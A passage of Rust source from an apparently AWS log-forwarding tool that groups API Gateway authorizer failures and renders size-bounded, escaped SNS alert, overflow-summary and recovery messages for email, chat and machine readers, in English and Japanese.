//! Grouping findings and rendering the SNS message for each group.
//!
//! One message per (log group, cause) and invocation, published with `MessageStructure=json`
//! (<https://docs.aws.amazon.com/sns/latest/dg/sns-send-custom-platform-specific-payloads-mobile-devices.html>):
//! `email` gets plain text, `https` gets a custom notification of Amazon Q Developer in chat
//! applications, formerly AWS Chatbot
//! (<https://docs.aws.amazon.com/chatbot/latest/adminguide/custom-notifs.html>), and `default`,
//! `sqs` and `lambda` get the machine-readable group.

use std::collections::{BTreeMap, HashMap};

use serde::Serialize;
use serde_json::json;

use crate::cause::{ApiFamily, Cause, Place, Remedy, Severity, remedy};
use crate::config::is_api_id;
use crate::config::{Config, Language};
use crate::detect::{Finding, LogKind, Scan};
use crate::diagnose::{ApiKind, AuthorizerReport, Check, Diagnosis};
use crate::escape::{ascii, chat_block, chat_code, chat_text, json_safe, truncate, visible};
use crate::flood::{self, Quiet, ScopeParts, Suppressed};
use crate::shape;

/// SNS refuses larger messages (256 KiB, counted in bytes, message attributes included).
pub const MAX_MESSAGE_BYTES: usize = 256 * 1024;
/// SNS wants a subject of fewer than 100 characters.
pub const MAX_SUBJECT_CHARS: usize = 99;
/// Message attribute values are for filter policies, not for reading: a log group name (at most
/// 512 characters in CloudWatch Logs) fits whole, anything longer is cut.
pub const MAX_ATTRIBUTE_BYTES: usize = 512;
/// A command longer than any that AWS identifiers can make is not shown; a cut command would be a
/// different command.
const MAX_COMMAND_BYTES: usize = 2048;
/// The label as shown: `ALERT_LABEL` allows 40 characters, other paths are cut here.
const MAX_LABEL_BYTES: usize = 40;
/// A subject keeps at least this much of its label before the cause words are shortened.
const MIN_SUBJECT_LABEL: usize = 8;

/// Bounds on what one alert carries from the log, lowered step by step when the message is too big.
/// Every field from the log or the event is bounded by one of them, so the floor bounds the whole
/// message whatever the input holds.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Limits {
    samples: usize,
    errors: usize,
    routes: usize,
    /// API ids, stages, diagnosed authorizers and their checks, request ids flood control kept;
    /// 0 leaves the diagnosis out.
    items: usize,
    text_bytes: usize,
}

const START_LIMITS: Limits = Limits {
    samples: usize::MAX,
    errors: 10,
    routes: 20,
    items: 10,
    text_bytes: 2000,
};

/// Where halving stops.
const FLOOR_LIMITS: Limits = Limits {
    samples: 0,
    errors: 1,
    routes: 1,
    items: 1,
    text_bytes: 64,
};

/// The last resort: what the alert is about, with a few bytes of each text.
const BARE_LIMITS: Limits = Limits {
    samples: 0,
    errors: 1,
    routes: 0,
    items: 0,
    text_bytes: 16,
};

impl Limits {
    /// Half of each bound, never below the floor.
    fn halved(self, samples_held: usize) -> Self {
        Limits {
            samples: samples_held.min(self.samples) / 2,
            errors: (self.errors / 2).max(FLOOR_LIMITS.errors),
            routes: (self.routes / 2).max(FLOOR_LIMITS.routes),
            items: (self.items / 2).max(FLOOR_LIMITS.items),
            text_bytes: (self.text_bytes / 2).max(FLOOR_LIMITS.text_bytes),
        }
    }

    fn cut<'s>(&self, s: &'s str) -> std::borrow::Cow<'s, str> {
        truncate(s, self.text_bytes)
    }
}

/// The findings of one invocation that share a log group and a cause.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Group {
    pub cause: Cause,
    pub log_group: Option<String>,
    pub count: usize,
    /// The failed requests by the status their lines logged: a REST API may give an authorizer's
    /// gateway response another status than 500, so an alert states what was logged.
    pub statuses: Vec<StatusCount>,
    pub first_seen: Option<String>,
    pub last_seen: Option<String>,
    pub sample_request_ids: Vec<String>,
    /// Distinct error texts, in order of first appearance.
    pub errors: Vec<String>,
    /// Distinct routes, in order of first appearance.
    pub routes: Vec<String>,
    pub api_ids: Vec<String>,
    pub stages: Vec<String>,
    pub account_id: Option<String>,
    /// The account that delivered the lines (the batch's owner), when it is an account id: the
    /// account of the problem's key and thread ([`flood::key`]), which no line can choose.
    #[serde(skip)]
    pub owner: Option<String>,
    /// What the API's live configuration says, when the forwarder was asked to check it.
    pub diagnosis: Option<Diagnosis>,
    /// What flood control kept quiet since the last alert for this problem.
    pub suppressed_before: Option<Suppressed>,
    /// For [`Cause::FormatMismatch`]: how the lines compare with the format.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub drift: Option<Drift>,
    /// Failed requests read without the stage's format or a whole event's bounds
    /// ([`Finding::verified`]): a client's text could have written them.
    pub unverified: usize,
    /// The CloudWatch Logs id of the group's earliest line: unique in its log group, the same
    /// when a batch is delivered again.
    #[serde(skip)]
    pub first_event_id: Option<String>,
}

impl Group {
    /// A group of `cause` that holds nothing yet.
    pub fn empty(cause: Cause) -> Self {
        Group {
            cause,
            log_group: None,
            count: 0,
            statuses: Vec::new(),
            first_seen: None,
            last_seen: None,
            sample_request_ids: Vec::new(),
            errors: Vec::new(),
            routes: Vec::new(),
            api_ids: Vec::new(),
            stages: Vec::new(),
            account_id: None,
            owner: None,
            diagnosis: None,
            suppressed_before: None,
            drift: None,
            unverified: 0,
            first_event_id: None,
        }
    }
}

/// How many of a group's failed requests logged one status.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
pub struct StatusCount {
    /// The HTTP status as logged; none when the line logged no status.
    pub status: Option<u16>,
    pub requests: usize,
}

/// Lines that do not follow the configured access-log format: `count` of the group's
/// `with_token` lines, which the format is `format`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Drift {
    /// Lines of the batch that carried the token.
    pub with_token: usize,
    /// The format the forwarder was given.
    pub format: String,
}

/// The group that says most lines carrying the token did not follow the format, when they did
/// not: detection is blind for them, and a blind forwarder must not look like a quiet one.
pub fn format_drift_group(scan: &Scan, format: &str) -> Option<Group> {
    if !scan.format_drift() {
        return None;
    }
    Some(Group {
        cause: Cause::FormatMismatch,
        log_group: scan.log_group.as_deref().map(str::to_owned),
        count: scan.unmatched,
        statuses: Vec::new(),
        first_seen: None,
        last_seen: None,
        sample_request_ids: Vec::new(),
        errors: scan.unmatched_sample.iter().cloned().collect(),
        routes: Vec::new(),
        api_ids: Vec::new(),
        stages: Vec::new(),
        account_id: scan.account_id.clone(),
        owner: scan.account_id.clone(),
        diagnosis: None,
        suppressed_before: None,
        first_event_id: None,
        unverified: 0,
        drift: Some(Drift {
            with_token: scan.with_token(),
            format: truncate(format, START_LIMITS.text_bytes).into_owned(),
        }),
    })
}

/// Groups findings by (log group, API, cause), keeping up to `max_samples` request ids each. A log
/// group may hold several APIs' lines; each API is a problem of its own, with its own flood window
/// and chat thread.
///
/// Linear in the findings: a batch may name tens of thousands of APIs, so each finding finds its
/// group through a map, never by walking the groups made so far.
pub fn group(findings: &[Finding], max_samples: usize) -> Vec<Group> {
    /// A group as it is built: its earliest and latest finding (by log timestamp, ties to the
    /// later one for the latest), whose times are copied once at the end, and its statuses.
    struct Slot<'f> {
        group: Group,
        first: &'f Finding,
        last: &'f Finding,
        statuses: BTreeMap<Option<u16>, usize>,
    }
    let mut slots: Vec<Slot> = Vec::new();
    let mut index: HashMap<(Cause, Option<&str>, Option<&str>), usize> = HashMap::new();
    for f in findings {
        let api = f.api_id().filter(|a| is_api_id(a));
        let at = *index
            .entry((f.cause, f.log_group.as_deref(), api))
            .or_insert_with(|| {
                slots.push(Slot {
                    group: Group {
                        log_group: f.log_group.as_deref().map(str::to_owned),
                        api_ids: api.iter().map(|a| (*a).to_owned()).collect(),
                        ..Group::empty(f.cause)
                    },
                    first: f,
                    last: f,
                    statuses: BTreeMap::new(),
                });
                slots.len() - 1
            });
        let slot = &mut slots[at];
        let g = &mut slot.group;
        g.count += 1;
        g.unverified += usize::from(!f.verified);
        *slot.statuses.entry(f.status).or_default() += 1;
        // Batches are nearly always in order, but timestamps decide when they are not.
        if let (Some(ts), Some(earliest)) = (f.timestamp, slot.first.timestamp)
            && ts < earliest
        {
            slot.first = f;
        }
        match (f.timestamp, slot.last.timestamp) {
            (Some(ts), Some(latest)) if ts < latest => {}
            _ => slot.last = f,
        }
        if let Some(id) = f.request_id()
            && g.sample_request_ids.len() < max_samples
            && !g.sample_request_ids.iter().any(|s| s == id)
        {
            g.sample_request_ids.push(id.to_owned());
        }
        push_distinct(&mut g.errors, f.error(), START_LIMITS.errors);
        if let Some(route) = f.route() {
            push_distinct(&mut g.routes, route, START_LIMITS.routes);
        }
        if let Some(stage) = f.stage() {
            push_distinct(&mut g.stages, stage, 10);
        }
        // Only a value with an account id's shape is one: programs read the machine JSON too,
        // and a hostile `$context.accountId` does not hide a real one later in the batch.
        if g.account_id.is_none()
            && let Some(account) = f.account_id().filter(|a| shape::is_account_id(a))
        {
            g.account_id = Some(account.to_owned());
        }
    }
    let mut groups: Vec<Group> = slots
        .into_iter()
        .map(|slot| {
            let mut g = slot.group;
            g.first_event_id = slot.first.event_id().map(str::to_owned);
            g.first_seen = slot.first.time().map(str::to_owned);
            g.last_seen = slot.last.time().map(str::to_owned);
            g.statuses = status_counts(slot.statuses);
            g
        })
        .collect();
    groups.sort_by(|a, b| {
        (a.cause, &a.log_group, &a.api_ids).cmp(&(b.cause, &b.log_group, &b.api_ids))
    });
    groups
}

/// The statuses as counted, logged ones in order and the lines that logged none last.
fn status_counts(counted: BTreeMap<Option<u16>, usize>) -> Vec<StatusCount> {
    let (none, logged): (Vec<_>, Vec<_>) = counted.into_iter().partition(|(s, _)| s.is_none());
    logged
        .into_iter()
        .chain(none)
        .map(|(status, requests)| StatusCount { status, requests })
        .collect()
}

fn push_distinct(list: &mut Vec<String>, value: &str, cap: usize) {
    let value = truncate(value, START_LIMITS.text_bytes);
    if list.len() < cap && !list.iter().any(|v| *v == value) {
        list.push(value.into_owned());
    }
}

/// The SNS message attributes subscribers filter on.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Attributes {
    pub cause: String,
    /// None when the lines named no log group (a file scanned without `--log-group`): SNS
    /// takes no empty attribute, and a made-up name would match a subscriber's filter.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub log_group: Option<String>,
    pub severity: String,
}

impl Attributes {
    /// Bytes SNS counts for the attributes: names, types and values.
    pub fn bytes(&self) -> usize {
        self.pairs()
            .iter()
            .map(|(k, v)| k.len() + "String".len() + v.len())
            .sum()
    }

    pub fn pairs(&self) -> Vec<(&'static str, &str)> {
        let mut pairs = vec![("cause", self.cause.as_str())];
        if let Some(g) = &self.log_group {
            pairs.push(("log_group", g));
        }
        pairs.push(("severity", &self.severity));
        pairs
    }
}

/// One message, ready to publish.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Alert {
    pub subject: String,
    pub attributes: Attributes,
    /// The machine-readable group (`default`, `sqs`, `lambda`).
    pub machine: String,
    /// Plain text for people (`email`).
    pub email: String,
    /// A custom notification of Amazon Q Developer in chat applications (`https`).
    pub chat: String,
}

impl Alert {
    /// The body for `Publish` with `MessageStructure=json`.
    pub fn message(&self) -> String {
        json!({
            "default": self.machine,
            "email": self.email,
            "https": self.chat,
            "sqs": self.machine,
            "lambda": self.machine,
        })
        .to_string()
    }

    /// Everything SNS counts against its message size limit: the message, its subject and its
    /// message attributes.
    pub fn publish_bytes(&self) -> usize {
        self.message().len() + self.subject.len() + self.attributes.bytes()
    }

    fn fits(&self) -> bool {
        self.publish_bytes() < MAX_MESSAGE_BYTES
    }
}

/// Renders one alert per group, for the first [`MAX_ALERTS`] groups, and one that summarises the
/// rest when there are more.
pub fn render_all(groups: &[Group], config: &Config) -> Vec<Alert> {
    let (shown, left) = groups.split_at(groups.len().min(MAX_ALERTS));
    let mut alerts: Vec<Alert> = shown.iter().map(|g| render(g, config)).collect();
    alerts.extend(overflow(left).map(|o| render_overflow(&o, config)));
    alerts
}

/// Alerts one invocation sends one by one, at most: a batch naming thousands of broken APIs must
/// not become thousands of messages in one inbox or channel, nor spend the function's time on a
/// round trip to SNS for each. The groups past it are summarised in one more alert
/// ([`Overflow`]), so an invocation sends at most `MAX_ALERTS + 1`.
pub const MAX_ALERTS: usize = 25;

/// APIs and log groups a summary names; the others are counted.
const OVERFLOW_NAMED: usize = 10;

/// The cause code a summary's `cause` message attribute carries: it is about several problems,
/// of any causes.
pub const OVERFLOW_CAUSE_CODE: &str = "alert_overflow";

/// The groups of one invocation past [`MAX_ALERTS`], told in one alert so that none is left out
/// unsaid: how many problems and lines, of which causes, and for which APIs and log groups.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct Overflow {
    /// Problems (groups) left out of the alerts.
    pub problems: usize,
    /// Their lines: failed requests, and lines not read for a format mismatch.
    pub lines: usize,
    /// Problems and lines by cause, in the order of causes.
    pub causes: Vec<CauseCount>,
    /// The first APIs the problems name, in their order.
    pub api_ids: Vec<String>,
    /// APIs beyond those.
    pub more_apis: usize,
    /// The first log groups, in their order.
    pub log_groups: Vec<String>,
    /// Log groups beyond those.
    pub more_log_groups: usize,
}

/// Problems of one cause in a summary, and their lines.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
pub struct CauseCount {
    pub cause: Cause,
    pub problems: usize,
    pub lines: usize,
}

/// The summary of groups left out of the alerts; none when none were. Linear in the groups.
pub fn overflow(left: &[Group]) -> Option<Overflow> {
    if left.is_empty() {
        return None;
    }
    let mut o = Overflow::default();
    let mut causes: BTreeMap<Cause, CauseCount> = BTreeMap::new();
    let mut apis = std::collections::HashSet::new();
    let mut log_groups = std::collections::HashSet::new();
    for g in left {
        o.problems += 1;
        o.lines = o.lines.saturating_add(g.count);
        let c = causes.entry(g.cause).or_insert(CauseCount {
            cause: g.cause,
            problems: 0,
            lines: 0,
        });
        c.problems += 1;
        c.lines = c.lines.saturating_add(g.count);
        for api in &g.api_ids {
            if apis.insert(api.as_str()) && o.api_ids.len() < OVERFLOW_NAMED {
                o.api_ids.push(truncate(api, 64).into_owned());
            }
        }
        if let Some(lg) = &g.log_group
            && log_groups.insert(lg.as_str())
            && o.log_groups.len() < OVERFLOW_NAMED
        {
            o.log_groups
                .push(truncate(lg, MAX_ATTRIBUTE_BYTES).into_owned());
        }
    }
    o.causes = causes.into_values().collect();
    o.more_apis = apis.len() - o.api_ids.len();
    o.more_log_groups = log_groups.len() - o.log_groups.len();
    Some(o)
}

/// `2 problems, 50000 lines`.
fn problems_and_lines(problems: usize, lines: usize, lang: Language) -> String {
    match lang {
        Language::En => format!(
            "{}, {}",
            counted(problems as u64, "problem", "problems"),
            counted(lines as u64, "line", "lines")
        ),
        Language::Ja => format!("問題 {problems} 件、行 {lines} 件"),
    }
}

/// `a1b2c3d4e5, f6g7h8i9j0 (+3 more)`.
fn named(list: &[String], more: usize, lang: Language) -> String {
    let mut t = list.join(", ");
    if more > 0 {
        t.push_str(&format!(" (+{more} {})", words(lang).more));
    }
    t
}

/// The summary of the groups past [`MAX_ALERTS`] as one alert. Everything in it from the log
/// (API ids of their shape, log group names) is bounded and escaped like an alert's.
pub fn render_overflow(o: &Overflow, config: &Config) -> Alert {
    let lang = config.language;
    let w = words(lang);
    let label = label(config);
    let severity = o
        .causes
        .iter()
        .map(|c| config.severity(c.cause))
        .max()
        .unwrap_or(Severity::Warning);
    let subject = fit_subject(
        label.as_deref(),
        "API authorizer alerts capped: ",
        "",
        &match o.problems {
            1 => " 1 more problem summarised".to_owned(),
            n => format!(" {n} more problems summarised"),
        },
    );
    let (title, explanation, left_out, apis) = match lang {
        Language::En => (
            "More problems than one invocation alerts on one by one",
            format!(
                "This batch held more problems than the forwarder alerts on one by one in an invocation ({MAX_ALERTS}). Those have an alert each; the rest are summarised here, so that none is left out unsaid. Their lines are in the log: forwarder check --log-group NAME reports them, or search them in CloudWatch Logs Insights."
            ),
            "Left out",
            "APIs",
        ),
        Language::Ja => (
            "1 回の呼び出しで個別に通知できる数を超える問題",
            format!(
                "このバッチには、1 回の呼び出しで個別に通知する上限 ({MAX_ALERTS} 件) を超える問題がありました。上限までの問題は個別に通知し、残りはここにまとめています。該当する行はログにあります。forwarder check --log-group NAME で確認するか、CloudWatch Logs Insights で検索してください。"
            ),
            "省略",
            "API",
        ),
    };
    let mut text = format!("{title}\n\n{explanation}\n\n");
    text.push_str(&format!(
        "{left_out}: {}\n",
        problems_and_lines(o.problems, o.lines, lang)
    ));
    for c in &o.causes {
        text.push_str(&format!(
            "  {}: {}\n",
            c.cause.code(),
            problems_and_lines(c.problems, c.lines, lang)
        ));
    }
    if !o.api_ids.is_empty() {
        text.push_str(&format!(
            "{apis}: {}\n",
            visible(&named(&o.api_ids, o.more_apis, lang))
        ));
    }
    if !o.log_groups.is_empty() {
        text.push_str(&format!(
            "{}: {}\n",
            w.log_group,
            visible(&named(&o.log_groups, o.more_log_groups, lang))
        ));
    }
    let console = match o.log_groups.as_slice() {
        [only] => console_url(config.region.as_deref(), Some(only)),
        _ => None,
    };
    if let Some(url) = &console {
        text.push_str(&format!("\n{}: {url}\n", w.console));
    }
    text.push_str(&format!("\n{}: {OVERFLOW_CAUSE_CODE}\n", w.code));

    let first_group = o.log_groups.first().map_or("-", String::as_str);
    let thread = thread_id(&format!("overflow:{first_group}"));
    let mut seen = format!("{}\0{}", o.problems, o.lines);
    for part in o.api_ids.iter().chain(&o.log_groups) {
        seen.push('\0');
        seen.push_str(part);
    }
    let mut d = format!("*{}*\n{}\n", chat_text(title), chat_text(&explanation));
    d.push_str(&format!(
        "• *{left_out}:* {}\n",
        problems_and_lines(o.problems, o.lines, lang)
    ));
    for c in &o.causes {
        d.push_str(&format!(
            "• {}: {}\n",
            chat_code(c.cause.code()),
            problems_and_lines(c.problems, c.lines, lang)
        ));
    }
    if !o.api_ids.is_empty() {
        d.push_str(&format!(
            "• *{apis}:* {}\n",
            chat_code(&named(&o.api_ids, o.more_apis, lang))
        ));
    }
    if !o.log_groups.is_empty() {
        d.push_str(&format!(
            "• *{}:* {}\n",
            w.log_group,
            chat_code(&named(&o.log_groups, o.more_log_groups, lang))
        ));
    }
    if let Some(url) = &console {
        d.push_str(&format!("<{url}|{}>\n", w.console));
    }
    let chat = json!({
        "version": "1.0",
        "source": "custom",
        "id": format!("{thread}#{:016x}", fnv1a(seen.as_bytes())),
        "content": {
            "textType": "client-markdown",
            "title": format!(":rotating_light: {}", chat_text(&subject)),
            "description": mentioned(config, severity, d),
        },
        "metadata": {
            "threadId": thread,
            "summary": subject,
            "eventType": "AuthorizerConfigurationErrorOverflow",
            "additionalContext": {
                "cause": OVERFLOW_CAUSE_CODE,
                "problems": o.problems.to_string(),
                "lines": o.lines.to_string(),
            },
        },
    });
    let machine = json!({
        "type": "authorizer_configuration_error_overflow",
        "subject": subject,
        "label": label,
        "severity": severity,
        "max_alerts": MAX_ALERTS,
        "problems": o.problems,
        "lines": o.lines,
        "causes": o.causes,
        "api_ids": o.api_ids,
        "more_apis": o.more_apis,
        "log_groups": o.log_groups,
        "more_log_groups": o.more_log_groups,
        "console_url": console,
        "text": text,
    });
    Alert {
        attributes: Attributes {
            cause: OVERFLOW_CAUSE_CODE.to_owned(),
            log_group: o.log_groups.first().map(|g| attribute(g)),
            severity: severity.code().to_owned(),
        },
        machine: json_safe(&machine.to_string()).into_owned(),
        email: text,
        chat: chat.to_string(),
        subject,
    }
}

/// The family the commands are for: what the live API said when it was read, else an execution
/// log's request ids say (UUIDs on a REST API, `PDS1PEC4oAMFpyA=` on a WebSocket API); an access
/// log does not say.
fn family_of(group: &Group) -> ApiFamily {
    if let Some(Diagnosis::Checked { api_kind, .. }) = &group.diagnosis {
        return match api_kind {
            ApiKind::Rest => ApiFamily::Rest,
            ApiKind::Http | ApiKind::WebSocket => ApiFamily::V2,
        };
    }
    match group.log_group.as_deref().map(LogKind::of_group) {
        Some(LogKind::Execution) => match group.sample_request_ids.first() {
            Some(id) if crate::execution_log::is_websocket_request_id(id) => ApiFamily::V2,
            _ => ApiFamily::Rest,
        },
        _ => ApiFamily::Unknown,
    }
}

/// Renders a group, trimming what came from the log until the message fits SNS's limit: samples
/// are dropped and texts shortened, never JSON cut.
pub fn render(group: &Group, config: &Config) -> Alert {
    let mut limits = START_LIMITS;
    loop {
        let alert = render_with(group, config, limits);
        if alert.fits() {
            return alert;
        }
        if limits == FLOOR_LIMITS {
            break;
        }
        limits = limits.halved(group.sample_request_ids.len());
    }
    // At the floor every text is 64 bytes and every list one item long, which no escaping can
    // blow up to 256 KiB; the bare form is there so the bound does not rest on that arithmetic.
    let alert = render_with(group, config, BARE_LIMITS);
    debug_assert!(alert.fits(), "{} bytes", alert.publish_bytes());
    alert
}

/// What one rendering shows: every field from the log or the event, within [`Limits`].
struct View<'a> {
    group: &'a Group,
    severity: Severity,
    label: Option<String>,
    region: Option<String>,
    log_group: Option<String>,
    first_seen: Option<String>,
    last_seen: Option<String>,
    account_id: Option<String>,
    api_ids: Vec<String>,
    stages: Vec<String>,
    samples: Vec<String>,
    errors: Vec<String>,
    routes: Vec<String>,
    omitted_samples: usize,
    statuses: StatusView,
    diagnosis: Option<Diagnosis>,
    suppressed_before: Option<Suppressed>,
    remedy: Remedy,
    drift: Option<Drift>,
    console_url: Option<String>,
}

/// A group's severity as configured, but never above a warning when none of its lines was read by
/// the stage's format or a whole event's bounds: a client could have written every one.
fn severity_of(group: &Group, config: &Config) -> Severity {
    let severity = config.severity(group.cause);
    if group.count > 0 && group.unverified == group.count {
        severity.min(Severity::Warning)
    } else {
        severity
    }
}

fn render_with(group: &Group, config: &Config, limits: Limits) -> Alert {
    let cut = |list: &[String], n: usize| -> Vec<String> {
        list.iter()
            .take(n)
            .map(|s| limits.cut(s).into_owned())
            .collect()
    };
    let cut_one = |s: &Option<String>| s.as_deref().map(|s| limits.cut(s).into_owned());
    // The remedy checks each value's shape itself; an oversized one has none.
    let place = Place {
        region: config.region.clone(),
        account_id: group.account_id.clone(),
        api_id: group.api_ids.first().cloned(),
        family: family_of(group),
    };
    let samples = cut(&group.sample_request_ids, limits.samples);
    let view = View {
        group,
        severity: severity_of(group, config),
        label: label(config),
        region: cut_one(&config.region),
        log_group: cut_one(&group.log_group),
        first_seen: cut_one(&group.first_seen),
        last_seen: cut_one(&group.last_seen),
        account_id: cut_one(&group.account_id),
        api_ids: cut(&group.api_ids, limits.items),
        stages: cut(&group.stages, limits.items),
        omitted_samples: group.sample_request_ids.len() - samples.len(),
        statuses: status_view(group, limits.items.max(1)),
        samples,
        errors: cut(&group.errors, limits.errors),
        routes: cut(&group.routes, limits.routes),
        diagnosis: group
            .diagnosis
            .as_ref()
            .filter(|_| limits.items > 0)
            .map(|d| trim_diagnosis(d, limits)),
        suppressed_before: group
            .suppressed_before
            .as_ref()
            .map(|p| trim_suppressed(p, limits.items, limits.text_bytes)),
        remedy: remedy(group.cause, &place, config.language),
        drift: group.drift.as_ref().map(|d| Drift {
            with_token: d.with_token,
            format: limits.cut(&d.format).into_owned(),
        }),
        console_url: console_url(config.region.as_deref(), group.log_group.as_deref()),
    };
    let subject = subject(group, view.label.as_deref());
    let email = email_text(&view, config.language);
    Alert {
        attributes: Attributes {
            cause: group.cause.code().to_owned(),
            log_group: group.log_group.as_deref().map(attribute),
            severity: view.severity.code().to_owned(),
        },
        machine: json_safe(&machine_json(&view, &subject, &email).to_string()).into_owned(),
        email,
        chat: chat_json(&view, config, &subject).to_string(),
        subject,
    }
}

/// The statuses an alert names, at most as many as its limits allow, and the rest summed.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
struct StatusView {
    shown: Vec<StatusCount>,
    other: Option<OtherStatuses>,
}

/// Statuses an alert had no room to name.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
struct OtherStatuses {
    statuses: usize,
    requests: usize,
}

/// A group's statuses for rendering, naming at most `n`. Requests the statuses do not account for
/// are counted as not logged, so the parts always add up to the count the alert states. Lines not
/// read (a format mismatch) have no status to state.
fn status_view(group: &Group, n: usize) -> StatusView {
    if group.drift.is_some() {
        return StatusView::default();
    }
    let mut all = group.statuses.clone();
    let accounted = all
        .iter()
        .fold(0usize, |sum, s| sum.saturating_add(s.requests));
    let missing = group.count.saturating_sub(accounted);
    if missing > 0 {
        match all.iter_mut().find(|s| s.status.is_none()) {
            Some(none) => none.requests = none.requests.saturating_add(missing),
            None => all.push(StatusCount {
                status: None,
                requests: missing,
            }),
        }
    }
    let other = (all.len() > n).then(|| {
        let rest = &all[n..];
        OtherStatuses {
            statuses: rest.len(),
            requests: rest.iter().fold(0, |sum, s| sum.saturating_add(s.requests)),
        }
    });
    all.truncate(n);
    StatusView { shown: all, other }
}

/// The configured label as subjects and bodies show it: printable ASCII, bounded.
pub(crate) fn label(config: &Config) -> Option<String> {
    let label = ascii(config.label.as_deref()?.trim());
    (!label.is_empty()).then(|| truncate(&label, MAX_LABEL_BYTES).into_owned())
}

/// A message attribute value: printable ASCII, bounded.
pub(crate) fn attribute(s: &str) -> String {
    truncate(&ascii(s), MAX_ATTRIBUTE_BYTES).into_owned()
}

/// A copy of the diagnosis within the limits an alert starts from.
pub(crate) fn bounded_diagnosis(d: &Diagnosis) -> Diagnosis {
    trim_diagnosis(d, START_LIMITS)
}

/// A copy of the diagnosis within the limits. Commands are kept whole or left out: they are built
/// from checked identifiers only, so one longer than any of those can make is not ours.
fn trim_diagnosis(d: &Diagnosis, limits: Limits) -> Diagnosis {
    let cut = |s: &str| limits.cut(s).into_owned();
    match d {
        Diagnosis::Unavailable { reason } => Diagnosis::Unavailable {
            reason: cut(reason),
        },
        Diagnosis::Checked {
            api_id,
            api_kind,
            authorizers,
        } => Diagnosis::Checked {
            api_id: cut(api_id),
            api_kind: *api_kind,
            authorizers: authorizers
                .iter()
                .take(limits.items)
                .map(|a| AuthorizerReport {
                    authorizer_id: cut(&a.authorizer_id),
                    name: cut(&a.name),
                    routes: a
                        .routes
                        .iter()
                        .take(limits.routes)
                        .map(|r| cut(r))
                        .collect(),
                    function_arn: a.function_arn.as_deref().map(cut),
                    credentials_arn: a.credentials_arn.as_deref().map(cut),
                    simple_responses: a.simple_responses,
                    payload_format_version: a.payload_format_version.as_deref().map(cut),
                    identity_source: a.identity_source.as_deref().map(cut),
                    checks: a
                        .checks
                        .iter()
                        .take(limits.items.max(2))
                        .map(|c| Check {
                            ok: c.ok,
                            summary: cut(&c.summary),
                            command: c.command.clone().filter(|cmd| is_shown_command(cmd)),
                            proves: c.proves,
                        })
                        .collect(),
                })
                .collect(),
        },
    }
}

/// Whether a command may be shown: one that [`shape::is_plain_command`] accepts, of a length AWS
/// identifiers can make.
fn is_shown_command(cmd: &str) -> bool {
    cmd.len() <= MAX_COMMAND_BYTES && shape::is_plain_command(cmd)
}

/// A copy of what flood control held back, with at most `items` request ids of `text_bytes`.
fn trim_suppressed(p: &Suppressed, items: usize, text_bytes: usize) -> Suppressed {
    Suppressed {
        sample_request_ids: p
            .sample_request_ids
            .iter()
            .take(items)
            .map(|id| truncate(id, text_bytes).into_owned())
            .collect(),
        ..p.clone()
    }
}

/// The note that a problem is over: its window closed and nothing came for a whole window.
///
/// The window's scope and request ids came from logs; they are bounded here, so the note stays
/// far below SNS's limit whatever they hold.
pub fn render_recovered(q: &Quiet, config: &Config) -> Alert {
    render_recovered_because(q, config, None)
}

/// [`render_recovered`], saying why the problem is over when a check found it gone (`fixed`)
/// rather than silence.
pub fn render_recovered_because(q: &Quiet, config: &Config, fixed: Option<&str>) -> Alert {
    let lang = config.language;
    let w = words(lang);
    let label = label(config);
    let subject = fit_subject(
        label.as_deref(),
        "API authorizer recovered: ",
        q.cause.subject_words(),
        "",
    );
    let thread = thread_id(&q.key);
    let full_scope = truncate(&q.scope, MAX_ATTRIBUTE_BYTES);
    let suppressed = trim_suppressed(&q.suppressed, START_LIMITS.items, 256);
    let q = &Quiet {
        key: String::new(),
        scope: full_scope.into_owned(),
        cause: q.cause,
        last_seen: q.last_seen,
        suppressed,
        by_check: q.by_check,
    };
    let scope = match flood::scope_parts(&q.scope) {
        ScopeParts::Api {
            account: Some(account),
            api,
        } => format!("{} {api} ({} {account})", w.api, w.account),
        ScopeParts::Api { account: None, api } => format!("{} {api}", w.api),
        ScopeParts::LogGroup {
            account: Some(account),
            group,
        } => format!("{} {group} ({} {account})", w.log_group, w.account),
        ScopeParts::LogGroup {
            account: None,
            group,
        } => format!("{} {group}", w.log_group),
    };
    let last_seen = crate::detect::format_millis(q.last_seen.saturating_mul(1000));
    let scope = visible(&scope);
    let quiet = match (fixed, lang) {
        (Some(fixed), _) => visible(fixed).into_owned(),
        (None, Language::En) => {
            format!("No request has failed with this cause on {scope} since {last_seen}.")
        }
        (None, Language::Ja) => {
            format!("{scope} では {last_seen} 以降、この原因で失敗したリクエストはありません。")
        }
    };
    let mut text = format!("{}: {}\n\n{quiet}\n", w.recovered, q.cause.title(lang));
    if q.suppressed.failed_requests > 0 {
        text.push_str(&format!(
            "{}: {}\n",
            w.since_last,
            suppressed_text(&q.suppressed, lang)
        ));
    }
    text.push_str(&format!("\n{}: {}\n", w.code, q.cause.code()));
    let description = mentioned(config, Severity::Info, chat_text(&text));
    let chat = json!({
        "version": "1.0",
        "source": "custom",
        "id": format!("{thread}#recovered-{}", q.last_seen),
        "content": {
            "textType": "client-markdown",
            "title": format!(":white_check_mark: {}", chat_text(&subject)),
            "description": description,
        },
        "metadata": {
            "threadId": thread,
            "summary": subject,
            "eventType": "AuthorizerConfigurationRecovered",
        },
    });
    let mut machine = json!({
        "type": "authorizer_configuration_recovered",
        "subject": subject,
        "label": label,
        "cause": q.cause,
        "scope": q.scope,
        "last_seen": last_seen,
        "suppressed_before": q.suppressed,
        "text": text,
    });
    if let Some(fixed) = fixed {
        machine["fixed"] = visible(fixed).into_owned().into();
    }
    Alert {
        attributes: Attributes {
            cause: q.cause.code().to_owned(),
            log_group: Some(attribute(match flood::scope_parts(&q.scope) {
                ScopeParts::Api { api, .. } => api,
                ScopeParts::LogGroup { group, .. } => group,
            })),
            severity: Severity::Info.code().to_owned(),
        },
